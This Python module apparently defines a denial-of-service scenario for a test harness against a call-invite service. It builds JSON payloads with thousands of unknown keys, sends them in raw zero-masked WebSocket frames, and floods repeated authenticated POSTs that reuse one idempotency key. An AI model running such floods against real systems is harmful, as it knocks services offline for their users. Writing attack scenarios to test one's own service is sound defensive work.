"""Long requests under keys, with members that nobody knows and that have to be put in order."""

import struct

from blows import Flood, flood, post
from raw import TEXT
from registry import Attack

ATTACK = Attack(aims_at="what one user says in a second", rules=(25, 28, 95, 96))
HANDS = 10  # devices of the user; half of them ask over HTTP
ODD = ",".join(f'"\\u0061{number * 7919 % 9973:x}":0' for number in range(4_300))
DATA = '{"invitees":["nobody"],%s}' % ODD


def heavy(number):
    text = ('{"id":1,"op":"call.invite","key":"%d","data":%s}' % (number, DATA)).encode()
    # A mask of zeros is one, too: an attacker saves its time.
    return bytes([0x80 | TEXT, 0xFE]) + struct.pack(">H", len(text)) + bytes(4) + text


def attack(scene):
    if scene.number % 2:
        return flood(scene, "mallory", b"".join(map(heavy, range(8))),
                     device=f"device-{scene.number}")
    token = f"Authorization: Bearer {scene.token('mallory')}"
    body = post("/v1/call/invite", DATA.encode(), [token, "Idempotency-Key: same"])
    lines = [Flood(scene.raw) for _ in range(4)]
    for _ in scene.each_while():
        for line in lines:
            line.push(lambda: body * 4)
